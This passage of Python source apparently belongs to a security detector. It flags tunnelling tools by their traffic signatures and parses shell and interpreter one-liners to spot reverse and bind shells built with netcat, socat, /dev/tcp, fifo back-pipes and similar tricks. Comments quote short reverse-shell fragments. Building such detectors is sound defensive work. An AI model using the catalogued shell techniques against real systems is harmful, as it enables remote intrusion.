    # frp marks its own TLS with a 0x17 byte before the ClientHello unless
    # disableCustomTLSFirstByte is set; a bare TLS record never starts so.
    if data[:1] == b"\x17" and data[1:3] == b"\x16\x03":
        confidence = "high" if dst_port == FRP_DEFAULT_PORT else "medium"
        return [Finding(type="tunnel_tool", confidence=confidence, dialect="frp",
                        evidence={"signal": "tls_first_byte", "port": dst_port,
                                  "sni": _tls_client_hello_sni(data[1:])})]
    return []


CLOUDFLARED_EDGE_PORT = 7844


def _looks_like_quic_initial(data: bytes) -> bool:
    return len(data) >= 7 and data[0] & 0xC0 == 0xC0 and data[1:5] != b"\x00\x00\x00\x00"


def _cloudflared_port(data: bytes, dst_port: int | None) -> list[Finding]:
    if dst_port != CLOUDFLARED_EDGE_PORT:
        return []
    if data[:1] == b"\x16" or _looks_like_quic_initial(data):
        return [Finding(type="tunnel_tool", confidence="medium", dialect="cloudflared",
                        evidence={"signal": "edge_port", "port": dst_port})]
    return []


def _localtunnel_setup(data: bytes) -> list[Finding]:
    """The JSON a localtunnel server answers `GET /?new` with."""
    head = data[:4096]
    if b'"max_conn_count"' in head and b'"url"' in head and b'"port"' in head:
        return [Finding(type="tunnel_tool", confidence="high", dialect="localtunnel",
                        evidence={"signal": "setup_reply"})]
    return []


def _name_finding(name: str, dst_port: int | None, source: str) -> list[Finding]:
    entry = tunnel_name(name)
    if entry is None:
        return []
    role = entry.role
    if entry.dialect == "localtunnel" and dst_port not in (None, 80, 443):
        role = "agent"      # lt clients open raw TCP to the port the server assigned
    return [Finding(type="tunnel_tool", confidence="high" if role == "agent" else "medium",
                    dialect=entry.dialect,
                    evidence={"signal": source, "name": normalise_name(name), "role": role,
                              "port": dst_port})]


def classify_tunnel_payload(payload: bytes, dst_port: int | None, sni: str | None = None,
                            host: str | None = None) -> list[Finding]:
    """Findings of type tunnel_tool for the first bytes of a flow.

    sni and host are what the caller already extracted (TLS SNI, HTTP Host,
    the DNS name the address came from); a ClientHello or HTTP request in
    the payload is also read for them. Agent control-plane names and
    protocol signatures are high; public tunnel URLs are medium (someone
    may merely be visiting one)."""
    data = bytes(payload[:MAX_PAYLOAD]) if isinstance(payload, (bytes, bytearray, memoryview)) else b""
    port = dst_port if isinstance(dst_port, int) and not isinstance(dst_port, bool) else None
    head = _http_head(data)      # read once: chisel's and the Host checks share it
    findings = _chisel_payload(data, head) + _bore_payload(data, port)
    if head is None:
        findings += _frp_payload(data, port)   # frp's messages are never HTTP
    names = [("sni", sni), ("host", host), ("tls_sni", _tls_client_hello_sni(data)),
             ("http_host", _host_of(head))]
    for source, name in names:
        if isinstance(name, str) and name:
            findings += _name_finding(name, port, source)
    if not any(f.dialect == "cloudflared" for f in findings):
        findings += _cloudflared_port(data, port)
    findings += _localtunnel_setup(data)
    return dedupe_findings(findings)


# --------------------------------------------------------------------------
# Reverse shells: a tiny shell lexer, just enough to see redirections and pipes


SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "lksh", "ash", "rbash",
                    "yash", "posh", "tcsh", "csh", "fish"})
NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "netcat.traditional",
                     "netcat.openbsd", "ncat.exe", "nc.exe"})

_SEPARATORS = {";", ";;", "&", "&&", "||", "\n", "(", ")"}
_PIPES = {"|", "|&"}
_REDIRECTIONS = {">", ">>", "<", "<>", ">&", "<&", "&>", "&>>", ">|", "<<", "<<<", "<<-"}
_OPERATORS = sorted(_SEPARATORS | _PIPES | _REDIRECTIONS, key=len, reverse=True)
_BLANKS = " \t\r\f\v"


@dataclass(frozen=True)
class _Token:
    text: str
    operator: bool = False
    fd: bool = False          # `2` in `2>&1`, `{fd}` in `exec {fd}<>...`


def _operator_at(text: str, pos: int) -> str | None:
    for op in _OPERATORS:
        if text.startswith(op, pos):
            return op
    return None


def _read_word(text: str, pos: int) -> tuple[str, int]:
    """One shell word from pos: quotes removed, backslashes applied."""
    out: list[str] = []
    n = len(text)
    while pos < n:
        char = text[pos]
        if char in _BLANKS or _operator_at(text, pos):
            break
        if char == "\\":
            if pos + 1 < n and text[pos + 1] != "\n":
                out.append(text[pos + 1])
            pos += 2
        elif char == "'":
            end = text.find("'", pos + 1)
            end = n if end < 0 else end
            out.append(text[pos + 1:end])
            pos = end + 1
        elif char == '"':
            pos += 1
            while pos < n and text[pos] != '"':
                if text[pos] == "\\" and pos + 1 < n and text[pos + 1] in '"\\$`\n':
                    pos += 1
                out.append(text[pos])
                pos += 1
            pos += 1
        else:
            out.append(char)
            pos += 1
    return "".join(out), pos


def _tokenize(text: str) -> list[_Token]:
    tokens: list[_Token] = []
    pos, n = 0, len(text)
    while pos < n and len(tokens) < 4096:
        char = text[pos]
        if char in _BLANKS:
            pos += 1
            continue
        if char == "#":                         # a comment runs to the end of the line
            end = text.find("\n", pos)
            pos = n if end < 0 else end
            continue
        op = _operator_at(text, pos)
        if op:
            tokens.append(_Token(op, operator=True))
            pos += len(op)
            continue
        word, pos = _read_word(text, pos)
        is_fd = (pos < n and text[pos] in "<>" and
                 (word.isdigit() or re.fullmatch(r"\{[A-Za-z_][A-Za-z0-9_]*\}", word) is not None))
        tokens.append(_Token(word, fd=is_fd))
    return tokens


@dataclass
class _Stage:
    """One simple command of a pipeline: its words and redirections (fd, op, target)."""
    words: list[str] = field(default_factory=list)
    redirections: list[tuple[str | None, str, str]] = field(default_factory=list)

    def __bool__(self) -> bool:
        return bool(self.words or self.redirections)


def _pipelines(text: str) -> list[list[_Stage]]:
    pipelines: list[list[_Stage]] = []
    stages: list[_Stage] = []
    stage = _Stage()
    tokens = _tokenize(text)
    pending_fd: str | None = None
    i = 0
    while i < len(tokens):
        token = tokens[i]
        if token.fd:
            pending_fd = token.text
        elif not token.operator:
            stage.words.append(token.text)
        elif token.text in _REDIRECTIONS:
            target = ""
            if i + 1 < len(tokens) and not tokens[i + 1].operator:
                target = tokens[i + 1].text
                i += 1
            stage.redirections.append((pending_fd, token.text, target))
            pending_fd = None
        elif token.text in _PIPES:
            stages.append(stage)
            stage = _Stage()
        else:
            stages.append(stage)
            pipelines.append([s for s in stages if s])
            stages, stage = [], _Stage()
        i += 1
    stages.append(stage)
    pipelines.append([s for s in stages if s])
    return [pipeline for pipeline in pipelines if pipeline]


_RESERVED = {"!", "{", "}", "do", "done", "then", "else", "elif", "if", "fi", "while", "until",
             "time", "coproc"}


def _command_words(words: list[str]) -> list[str]:
    """The command a stage runs: without reserved words, assignments and launchers."""
    i = 0
    while i < len(words) and (words[i] in _RESERVED or
                              re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*=.*", words[i], re.S)):
        i += 1
    rest = words[i:]
    if rest == ["exec"]:
        return rest     # `exec 5<>/dev/tcp/...` changes the shell's own descriptors
    return unwrap_launchers(rest)


def _program(words: list[str]) -> str:
    return _basename(words[0]).lower() if words else ""


_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/([A-Za-z0-9-]+)")


def _dev_net_target(text: str) -> dict[str, Any] | None:
    match = _DEV_NET.match(text)
    return _target(match.group(2), match.group(3)) if match else None


def _shell_mode(words: list[str]) -> str | None:
    """"interactive" (`bash -i`), "stdin" (`sh`, `sh -s`: commands read from
    stdin) or None (not a shell, `sh -c ...`, `bash script.sh`)."""
    if _program(words) not in SHELLS:
        return None
    interactive = False
    for arg in words[1:]:
        if arg in ("--", "-"):
            break
        if arg.startswith("--"):
            interactive = interactive or arg == "--interactive"
            continue
        if arg.startswith(("-", "+")):
            letters = arg[1:]
            if "c" in letters:
                return None
            interactive = interactive or "i" in letters
            if "s" in letters:
                break
            continue
        return "interactive" if interactive else None    # a script file, unless -i forces it
    return "interactive" if interactive else "stdin"


def _shell_reads_stdin(words: list[str]) -> bool:
    return _shell_mode(words) is not None


def _finding(pattern: str, dialect: str, confidence: str, *, target: dict[str, Any] | None = None,
             mode: str = "reverse", excerpt: str | None = None, **extra: Any) -> Finding:
    evidence: dict[str, Any] = {"pattern": pattern, "mode": mode}
    if target:
        evidence["target"] = target
    if excerpt:
        evidence["excerpt"] = _truncate(excerpt)
    evidence.update({key: value for key, value in extra.items() if value is not None})
    return Finding(type="reverse_shell", confidence=confidence, dialect=dialect, evidence=evidence)


# -- netcat and friends


_NC_SHORT_WITH_VALUE = set("ecpswiqxXTIOVMmPgGo")
_NC_LONG_WITH_VALUE = {"--sh-exec", "--exec", "--lua-exec", "--source-port", "--source", "--wait",
                       "--proxy", "--proxy-type", "--proxy-auth", "--proxy-dns", "--idle-timeout",
                       "--delay", "--output", "--hex-dump", "--ssl-cert", "--ssl-key",
                       "--ssl-trustfile", "--ssl-ciphers", "--ssl-servername", "--ssl-alpn",
                       "--allow", "--allowfile", "--deny", "--denyfile", "--max-conns"}
_NC_EXEC_OPTIONS = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")


@dataclass
class _Netcat:
    flags: set[str] = field(default_factory=set)
    values: dict[str, str] = field(default_factory=dict)
    operands: list[str] = field(default_factory=list)

    @property
    def listening(self) -> bool:
        return "-l" in self.flags or "--listen" in self.flags

    @property
    def scanning(self) -> bool:
        return "-z" in self.flags

    @property
    def executes(self) -> tuple[str, str] | None:
        for option in _NC_EXEC_OPTIONS:
            if option in self.values:
                return option, self.values[option]
        return None

    def target(self) -> dict[str, Any] | None:
        if self.listening:
            port = self.values.get("-p") or (self.operands[-1] if self.operands else None)
            return _target(None, port)
        host = self.operands[0] if self.operands else None
        return _target(host, self.operands[1] if len(self.operands) > 1 else None)


def _parse_netcat(args: list[str]) -> _Netcat:
    """nc/ncat/netcat options in any order (GNU getopt permutes them)."""
    parsed = _Netcat()
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            parsed.operands.extend(args[i + 1:])
            break
        if arg.startswith("--"):
            name, eq, value = arg.partition("=")
            if not eq and name in _NC_LONG_WITH_VALUE and i + 1 < len(args):
                value, eq = args[i + 1], "="
                i += 1
            if eq:
                parsed.values.setdefault(name, value)
            else:
                parsed.flags.add(name)
        elif arg.startswith("-") and len(arg) > 1:
            for j in range(1, len(arg)):
                letter = arg[j]
                if letter in _NC_SHORT_WITH_VALUE:
                    value = arg[j + 1:]
                    if not value and i + 1 < len(args):
                        value = args[i + 1]
                        i += 1
                    parsed.values.setdefault("-" + letter, value)
                    break
                parsed.flags.add("-" + letter)
        else:
            parsed.operands.append(arg)
        i += 1
    return parsed


def _netcat_findings(words: list[str]) -> list[Finding]:
    nc = _parse_netcat(words[1:])
    executes = nc.executes
    if executes is None:
        return []   # a plain client, listener (nc -l 8080) or port check (nc -z): not a shell
    option, command = executes
    return [_finding("netcat_exec", "netcat", "high", target=nc.target(),
                     mode="bind" if nc.listening else "reverse", option=option,
                     program=_truncate(command, 200))]


# -- socat


_SOCAT_OPTIONS_WITH_VALUE = {"-b", "-t", "-T", "-lf", "-lp", "-L", "-W", "-r", "-R"}
_SOCAT_CONNECT = {"tcp", "tcp4", "tcp6", "tcp-connect", "tcp4-connect", "tcp6-connect", "openssl",
                  "openssl-connect", "ssl", "udp", "udp4", "udp6", "udp-connect", "udp4-connect",
                  "udp6-connect", "udp-sendto", "udp4-sendto", "udp6-sendto", "sctp",
                  "sctp-connect", "socks", "socks4", "socks4a", "socks5", "socks5-connect",
                  "proxy", "proxy-connect", "vsock-connect", "dccp-connect", "udplite-connect",
                  "openssl-dtls-client", "dtls"}
_SOCAT_LISTEN = {"tcp-listen", "tcp-l", "tcp4-listen", "tcp4-l", "tcp6-listen", "tcp6-l",
                 "openssl-listen", "ssl-l", "openssl-l", "udp-listen", "udp-l", "udp4-listen",
                 "udp6-listen", "udp-recvfrom", "udp-recv", "sctp-listen", "sctp-l",
                 "vsock-listen", "dccp-listen", "openssl-dtls-server"}
_SOCAT_EXEC = {"exec", "system"}
_SOCAT_STDIO = {"-", "stdio", "stdin", "stdout", "readline", "file", "open", "create", "pty",
                "fd", "pipe", "gopen"}
_INTERPRETERS = re.compile(r"(python|pypy|perl|ruby|php|node|nodejs|lua|luajit|awk|gawk|tclsh|"
                           r"expect|irb|pwsh|powershell)[0-9.]*")


def _socat_address(address: str) -> tuple[str, str]:
    """(lower-case address type, the part before options) of a socat address."""
    if address == "-":
        return "-", ""
    kind, sep, rest = address.partition(":")
    kind = kind.split(",", 1)[0].lower()
    return kind, rest.split(",", 1)[0] if sep else ""


#: A field of a socat address: colons inside [brackets] (IPv6) do not split.
#: (A split at `:(?![^[]*])` looked ahead to the end at every colon: quadratic.)
_SOCAT_FIELD = re.compile(r"(?:\[[^\]]*\]?|[^:\[])+")


def _socat_target(kind: str, body: str) -> dict[str, Any] | None:
    fields = _SOCAT_FIELD.findall(body)
    if kind in _SOCAT_LISTEN:
        return _target(None, fields[0] if fields else None)
    if len(fields) >= 2:
        return _target(fields[-2].strip("[]"), fields[-1])
    return _target(fields[0].strip("[]"), None) if fields else None


def _runs_a_shell(command: str) -> bool:
    first = command.strip().split(" ", 1)[0] if command.strip() else ""
    name = _basename(first).lower()
    return name in SHELLS or _INTERPRETERS.fullmatch(name) is not None


def _socat_findings(words: list[str]) -> list[Finding]:
    addresses: list[str] = []
    i = 1
    while i < len(words):
        arg = words[i]
        if arg in _SOCAT_OPTIONS_WITH_VALUE:
            i += 2
            continue
        if arg == "-" or not arg.startswith("-"):
            addresses.append(arg)
        i += 1
    if len(addresses) < 2:
        return []
    (kind_a, body_a), (kind_b, body_b) = (_socat_address(a) for a in addresses[:2])
    for (exec_kind, exec_body), (net_kind, net_body) in (((kind_a, body_a), (kind_b, body_b)),
                                                         ((kind_b, body_b), (kind_a, body_a))):
        if exec_kind not in _SOCAT_EXEC:
            continue
        if net_kind in _SOCAT_CONNECT:
            mode = "reverse"
        elif net_kind in _SOCAT_LISTEN:
            mode = "bind"
        else:
            continue
        # exec of a shell or interpreter is a shell; exec of anything else may
        # be an inetd-style service, so it ranks lower.
        confidence = "high" if _runs_a_shell(exec_body) else "medium"
        return [_finding("socat_exec", "socat", confidence, target=_socat_target(net_kind, net_body),
                         mode=mode, program=_truncate(exec_body, 200),
                         excerpt=" ".join(words))]
    return []   # a relay between two sockets (TCP-LISTEN:80,fork TCP:host:8080) is a proxy


# -- network clients used as pipeline stages


def _net_client(stage: _Stage, words: list[str]) -> tuple[str, dict[str, Any] | None, bool] | None:
    """(dialect, target, listening) when a stage talks to the network on stdio."""
    name = _program(words)
    for fd, op, target in stage.redirections:
        if op in ("<", "<>") and fd in (None, "0") and _DEV_NET.match(target):
            return "bash", _dev_net_target(target), False
    if name in NETCATS:
        nc = _parse_netcat(words[1:])
        if nc.scanning or (not nc.operands and not nc.listening):
            return None
        return "netcat", nc.target(), nc.listening
    if name == "telnet":
        operands = [w for w in words[1:] if not w.startswith("-")]
        if operands:
            return "telnet", _target(operands[0], operands[1] if len(operands) > 1 else None), False
    if name == "openssl" and words[1:2] == ["s_client"]:
        for i, arg in enumerate(words):
            if arg == "-connect" and i + 1 < len(words):
                host, port = _split_host_port(words[i + 1])
                return "openssl", _target(host, port), False
        return "openssl", None, False
    if name == "socat":
        kinds = [_socat_address(w) for w in words[1:] if w == "-" or not w.startswith("-")]
        nets = [(k, b) for k, b in kinds if k in _SOCAT_CONNECT or k in _SOCAT_LISTEN]
        if nets and any(k in _SOCAT_STDIO for k, _ in kinds):
            kind, body = nets[0]
            return "socat", _socat_target(kind, body), kind in _SOCAT_LISTEN
    if name == "ztcp":
        operands = [w for w in words[1:] if not w.startswith("-")]
        if operands:
            return "zsh", _target(operands[0], operands[1] if len(operands) > 1 else None), False
    return None


# -- shell scripts (the string after sh -c)


def _has_fifo(pipelines: list[list[_Stage]]) -> bool:
    for pipeline in pipelines:
        for stage in pipeline:
            words = _command_words(stage.words)
            name = _program(words)
            if name == "mkfifo" or (name == "mknod" and "p" in words[2:]):
                return True
    return False


def _dev_net_redirections(stage: _Stage) -> list[tuple[str | None, str, str]]:
    return [r for r in stage.redirections if _DEV_NET.match(r[2])]


def _stdin_duplicated(stage: _Stage) -> bool:
    """`0>&1`, `0<&1`, `<&3`, `<>`: the command's stdin comes from the socket too."""
    for fd, op, target in stage.redirections:
        if op in ("<&", ">&") and fd == "0":
            return True
        if op == "<&" and fd is None:
            return True
        if op in ("<", "<>") and fd in (None, "0") and _DEV_NET.match(target):
            return True
    return False


def _fd_consumers(pipelines: list[list[_Stage]]) -> set[str]:
    """Descriptors read by a shell or a `$line` loop (`sh <&5`, `do $line >&5`),
    collected in one pass: asked per `exec N<>/dev/tcp/...` line, the
    question cost a pass each, quadratic in a script of such lines."""
    numbers: set[str] = set()
    for pipeline in pipelines:
        for stage in pipeline:
            used = {target.lstrip("$").strip("{}") for _, op, target in stage.redirections
                    if op in ("<&", ">&")}
            if not used:
                continue
            words = _command_words(stage.words)
            if words and (_program(words) in SHELLS or words[0].startswith("$")
                          or words[0] == "eval"):
                numbers |= used
    return numbers


def _dev_net_findings(pipelines: list[list[_Stage]], script: str) -> list[Finding]:
    findings: list[Finding] = []
    consumers: set[str] | None = None          # read once, on first need
    for pipeline in pipelines:
        for stage in pipeline:
            redirections = _dev_net_redirections(stage)
            if not redirections:
                continue
            target = _dev_net_target(redirections[0][2])
            words = _command_words(stage.words)
            if words[:1] == ["exec"] and len(words) == 1:
                fd = next((f for f, _, _ in redirections if f), None)
                if fd:
                    consumers = _fd_consumers(pipelines) if consumers is None else consumers
                if fd and fd.strip("{}") in consumers:
                    findings.append(_finding("dev_tcp_exec_fd", "bash", "high", target=target,
                                             excerpt=script, fd=fd))
                elif fd:
                    # An fd held on a socket with nothing feeding a shell: as
                    # often an HTTP probe (`exec 3<>/dev/tcp/h/80; cat <&3`).
                    findings.append(_finding("dev_tcp_exec_fd", "bash", "low", target=target,
                                             excerpt=script, fd=fd))
            elif _shell_reads_stdin(words):
                interactive = _shell_mode(words) == "interactive"
                confidence = "high" if interactive or _stdin_duplicated(stage) else "medium"
                findings.append(_finding("dev_tcp_shell", "bash", confidence, target=target,
                                         excerpt=script))
            elif words and _stdin_duplicated(stage) and any(
                    op in (">", ">&", "&>", ">>", "<>") for _, op, _ in redirections):
                findings.append(_finding("dev_tcp_stdio", "bash", "high", target=target,
                                         excerpt=script, program=_program(words)))
            # Anything else (`echo > /dev/tcp/db/5432`, `cat < /dev/tcp/h/80`)
            # is a port check or a download, not a shell.
    return findings


def _pipeline_findings(pipelines: list[list[_Stage]], script: str) -> list[Finding]:
    """`nc h p | sh`, `telnet h p | sh | telnet h q`, and fifo back-pipes
    (`mkfifo f; cat f | sh -i 2>&1 | nc h p > f`)."""
    findings: list[Finding] = []
    fifo = _has_fifo(pipelines)
    for pipeline in pipelines:
        clients: list[tuple[int, tuple[str, dict[str, Any] | None, bool]]] = []
        shells: list[int] = []
        for index, stage in enumerate(pipeline):
            words = _command_words(stage.words)
            client = _net_client(stage, words)
            if client is not None:
                clients.append((index, client))
            elif _shell_reads_stdin(words):
                shells.append(index)
        if not clients or not shells:
            continue
        (first_client, (dialect, target, listening)) = clients[0]
        if first_client < shells[-1]:
            findings.append(_finding("pipe_to_shell", dialect, "high", target=target,
                                     mode="bind" if listening else "reverse", excerpt=script))
        elif fifo:
            findings.append(_finding("fifo_backpipe", dialect, "high", target=target,
                                     mode="bind" if listening else "reverse", excerpt=script))
    return findings


def _ztcp_findings(pipelines: list[list[_Stage]], script: str) -> list[Finding]:
    """zsh's `ztcp host port` followed by a shell on `$REPLY`."""
    target = None
    for pipeline in pipelines:
        for stage in pipeline:
            words = _command_words(stage.words)
            if _program(words) == "ztcp":
                client = _net_client(stage, words)
                target = client[1] if client else None
    if target is None:
        return []
    on_reply = any(target_text in ("$REPLY", "${REPLY}")
                   for pipeline in pipelines for stage in pipeline
                   for _, _, target_text in stage.redirections)
    # ztcp alone is a connection; a shell on its descriptor makes it a shell.
    return [_finding("zsh_ztcp", "zsh", "high", target=target, excerpt=script)] if on_reply else []


def _script_findings(script: str, depth: int) -> list[Finding]:
    script = script[:MAX_SCRIPT]
    pipelines = _pipelines(script)
    findings = _dev_net_findings(pipelines, script) + _pipeline_findings(pipelines, script)
    findings += _ztcp_findings(pipelines, script)
    for pipeline in pipelines:
        for stage in pipeline:
            words = _command_words(stage.words)
            if words and words[0] != "exec":
                findings += _argv_findings(words, depth + 1)
    return findings


def _shell_script_operand(words: list[str]) -> str | None:
    """The string a shell runs with -c (`bash -c STR`, `sh -ic STR`, `bash -lc STR`)."""
    command = False
    i = 1
    while i < len(words):
        arg = words[i]
        if arg in ("--", "-"):
            i += 1
            break
        if arg in ("--rcfile", "--init-file", "-o", "+o", "-O", "+O"):
            i += 2
            continue
        if arg.startswith("--"):
            i += 1
            continue
        if arg.startswith(("-", "+")):
            command = command or "c" in arg[1:]
            i += 1
            continue
        break
    return words[i] if command and i < len(words) else None


# -- interpreter one-liners


def _inline_code(language: str, args: list[str]) -> str | None:
    """The code given on the command line (python -c, perl -e, php -r, node -e, ...)."""
    flags = {"python": ("-c", "-m"), "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",),
             "node": ("-e", "--eval", "-p", "--print"), "lua": ("-e",)}[language]
    # Letters whose value is the rest of the word, or the next word when nothing is attached.
    with_value = {"python": "WXQ", "perl": "MmIdDxVCFi", "ruby": "rICEFTWx", "php": "cdzt",
                  "node": "rC", "lua": "l"}[language]
    attached_only = language == "perl"
    pieces: list[str] = []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--" or not arg.startswith("-") or arg == "-":
            break
        if arg.startswith("--"):
            name, eq, value = arg.partition("=")
            if name in flags:
                code = value if eq else (args[i + 1] if i + 1 < len(args) else "")
                return code or None                     # node --eval/--print: one piece of code
            i += 1
            continue
        letters = arg[1:]
        for j, letter in enumerate(letters):
            rest = letters[j + 1:]
            if "-" + letter in flags:
                if language == "python" and letter == "m":
                    return "\n".join(pieces) or None     # a module run, not inline code
                if (not rest or all("-" + c in flags for c in rest)) and i + 1 < len(args):
                    rest = args[i + 1]                  # `-e CODE`, and `node -pe CODE`
                    i += 1
                pieces.append(rest)
                if language in ("python", "php", "node"):
                    return rest or None                 # what follows is the code's own argv
                break
            if letter in with_value:
                if not rest and not attached_only:
                    i += 1                              # `-W ignore`, `-r socket`
                break
            if language == "php" and letter == "f":
                return "\n".join(pieces) or None         # a script file, not inline code
        i += 1
    return "\n".join(pieces) or None


def _awk_program(args: list[str]) -> str | None:
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            return args[i + 1] if i + 1 < len(args) else None
        if arg in ("-e", "--source"):
            return args[i + 1] if i + 1 < len(args) else None
        if arg in ("-f", "--file", "-E", "--exec"):
            return None
        if arg in ("-F", "-v", "-i", "-l", "--field-separator", "--assign", "--include", "--load"):
            i += 2
            continue
        if arg.startswith("-") and arg != "-":
            i += 1
            continue
        return arg
    return None


#: A quoted string in inline code. An unclosed quote runs to the end: with
#: `{6,}` and a closing quote required, `'\'\'...` was retried from every
#: escaped quote to the end of the text (quadratic); now every match
#: succeeds where it starts, and short literals are dropped afterwards.
_QUOTED = re.compile(r"'([^'\\]*(?:\\.[^'\\]*)*)(?:'|\\?\Z)"
                     r'|"([^"\\]*(?:\\.[^"\\]*)*)(?:"|\\?\Z)', re.S)


@dataclass(frozen=True)
class _CodeSignature:
    """What a one-liner in one language needs to be a reverse shell."""
    dialect: str
    socket: re.Pattern[str]       # the socket API is in use
    connects: re.Pattern[str]     # ... and a connection is made or accepted
    executes: re.Pattern[str]     # ... and a program is run or stdio is handed over
    targets: tuple[re.Pattern[str], ...]
    bind: tuple[re.Pattern[str], ...] = ()   # all present: it listens instead of connecting


_CODE_SIGNATURES = {
    "python": _CodeSignature(
        "python",
        re.compile(r"\bsocket\b|create_connection"),
        re.compile(r"\.connect(?:_ex)?\s*\(|create_connection|\.accept\s*\("),
        re.compile(r"\bdup2\b|pty\.spawn|subprocess|os\.system|os\.popen|\bPopen\b|os\.exec|"
                   r"\bexec\s*\(|check_output|getoutput"),
        (re.compile(r"""(?:connect|create_connection)\(\s*\(\s*['"]([^'"]+)['"]\s*,\s*(\d+)"""),),
        (re.compile(r"\.bind\s*\("), re.compile(r"\.accept\s*\("))),
    "perl": _CodeSignature(
        "perl",
        re.compile(r"\bsocket\s*\(|IO::Socket|Socket::INET|\buse\s+Socket\b"),
        re.compile(r"\bconnect\s*\(|PeerAddr|PeerHost|IO::Socket::INET|\baccept\s*\("),
        re.compile(r"\bexec\b|\bsystem\b|open\s*\(\s*STD(IN|OUT|ERR)|fdopen|`|\bqx\b"),
        (re.compile(r"""PeerAddr\s*(?:=>|,)\s*['"]([^'":]+):(\d+)"""),
         re.compile(r"""\$i\s*=\s*['"]([^'"]+)['"]\s*;\s*\$p\s*=\s*(\d+)"""),
         re.compile(r"""sockaddr_in\(\s*(\d+)\s*,\s*inet_aton\(\s*['"]([^'"]+)['"]"""),
         re.compile(r"""inet_aton\(\s*['"]([^'"]+)['"]\s*\)""")),
        (re.compile(r"\blisten\s*\(|LocalPort|Listen\s*=>"),)),
    "ruby": _CodeSignature(
        "ruby",
        re.compile(r"TCPSocket|Socket\.(new|tcp)|UDPSocket|TCPServer"),
        re.compile(r"TCPSocket\.(new|open)|Socket\.tcp|\.connect\(|\.accept\b"),
        re.compile(r"\bexec\b|\bspawn\b|\bsystem\b|IO\.popen|Open3|`|%x"),
        (re.compile(r"""TCPSocket\.(?:new|open)\(\s*['"]([^'"]+)['"]\s*,\s*['"]?(\d+)"""),),
        (re.compile(r"TCPServer"),)),
    "php": _CodeSignature(
        "php",
        re.compile(r"fsockopen|stream_socket_client|socket_create|socket_connect|"
                   r"stream_socket_server"),
        re.compile(r"fsockopen|stream_socket_client|socket_connect|stream_socket_accept|"
                   r"socket_accept"),
        re.compile(r"\b(exec|shell_exec|system|passthru|popen|proc_open|pcntl_exec)\s*\(|`"),
        (re.compile(r"""fsockopen\(\s*['"](?:tcp://|udp://)?([^'"]+)['"]\s*,\s*(\d+)"""),
         re.compile(r"""stream_socket_client\(\s*['"](?:tcp|udp|ssl|tls)://([^'":]+):(\d+)""")),
        (re.compile(r"stream_socket_server|socket_listen"),)),
    "node": _CodeSignature(
        "node",
        re.compile(r"""require\(\s*['"](?:node:)?(?:net|tls)['"]\s*\)|net\.Socket|net\.connect|"""
                   r"""createConnection|tls\.connect"""),
        re.compile(r"\.connect\s*\(|createConnection|createServer"),
        re.compile(r"child_process|\bspawn\s*\(|\bexec\s*\(|execSync"),
        (re.compile(r"""connect\(\s*(\d+)\s*,\s*['"]([^'"]+)['"]"""),
         re.compile(r"""host\s*:\s*['"]([^'"]+)['"]\s*,\s*port\s*:\s*(\d+)""")),
        (re.compile(r"createServer"),)),
    "lua": _CodeSignature(
        "lua",
        re.compile(r"""socket\.tcp|socket\.connect|require\s*\(?\s*['"]socket['"]"""),
        re.compile(r"connect\s*\(|:accept\s*\("),
        re.compile(r"os\.execute|io\.popen"),
        (re.compile(r"""connect\(\s*['"]([^'"]+)['"]\s*,\s*['"]?(\d+)"""),),
        (re.compile(r":bind\(|socket\.bind"),)),
}


def _code_target(signature: _CodeSignature, code: str) -> dict[str, Any] | None:
    for pattern in signature.targets:
        match = pattern.search(code)
        if match:
            first, second = (list(match.groups()) + [None])[:2]
            if first.isdigit() and second and not second.isdigit():
                first, second = second, first          # (port, host) orders
            return _target(first, second or None)
    return None


def _code_findings(language: str, code: str, depth: int) -> list[Finding]:
    code = code[:MAX_SCRIPT]
    findings: list[Finding] = []
    signature = _CODE_SIGNATURES[language]
    if (signature.socket.search(code) and signature.connects.search(code)
            and signature.executes.search(code)):
        bind = bool(signature.bind) and all(p.search(code) for p in signature.bind)
        findings.append(_finding(f"{language}_socket_exec", signature.dialect, "high",
                                 target=_code_target(signature, code),
                                 mode="bind" if bind else "reverse", excerpt=code))
    # Strings inside the code may themselves be shell commands (os.system("bash -i >& ..."))
    literals = (match.group(1) or match.group(2) or "" for match in _QUOTED.finditer(code))
    for literal in itertools.islice((text for text in literals if len(text) >= 6), 32):
        findings += _script_findings(literal, depth + 1)
    return findings


_AWK_INET = re.compile(r"/inet[46]?/(tcp|udp)/(\d+)/([^/\s\"']+)/(\d+)")


def _awk_findings(program: str) -> list[Finding]:
    match = _AWK_INET.search(program)
    if match is None:
        return []
    local_port, host, port = match.group(2), match.group(3), match.group(4)
    bind = local_port != "0" and host == "0"
    target = _target(None, local_port) if bind else _target(host, port)
    interactive = "|&" in program and "getline" in program
    return [_finding("awk_inet", "awk", "high" if interactive else "medium", target=target,
                     mode="bind" if bind else "reverse", excerpt=program)]


def _language(name: str) -> str | None:
    patterns = (("python", r"python[0-9.]*|pypy[0-9.]*"), ("perl", r"perl[0-9.]*"),
                ("ruby", r"ruby[0-9.]*"), ("php", r"php[0-9.]*(-cli)?"),
                ("node", r"node|nodejs"), ("lua", r"lua[0-9.]*|luajit"))
    for language, pattern in patterns:
        if re.fullmatch(pattern, name):
            return language
    return None


def _xterm_findings(words: list[str]) -> list[Finding]:
    """`xterm -display attacker:1`: a terminal drawn on someone else's X server."""
    for i, arg in enumerate(words[:-1]):
        if arg in ("-display", "--display"):
            host = words[i + 1].rpartition(":")[0]
            if host and host not in ("localhost", "127.0.0.1", "unix"):
                return [_finding("xterm_display", "xterm", "medium", target=_target(host, None),
                                 excerpt=" ".join(words))]
    return []


def _dash_c_value(args: list[str]) -> str | None:
    """The value of -c/--command (`script -qc CMD`, `su -c CMD`, `--command=CMD`)."""
    for i, arg in enumerate(args):
        if arg.startswith("--command="):
            return arg.split("=", 1)[1]
        if arg == "--command" or (arg.startswith("-") and not arg.startswith("--") and "c" in arg):
            if arg == "--command" or arg.endswith("c"):
                return args[i + 1] if i + 1 < len(args) else None
            return arg[arg.index("c") + 1:]          # -cCMD, -qcCMD
    return None


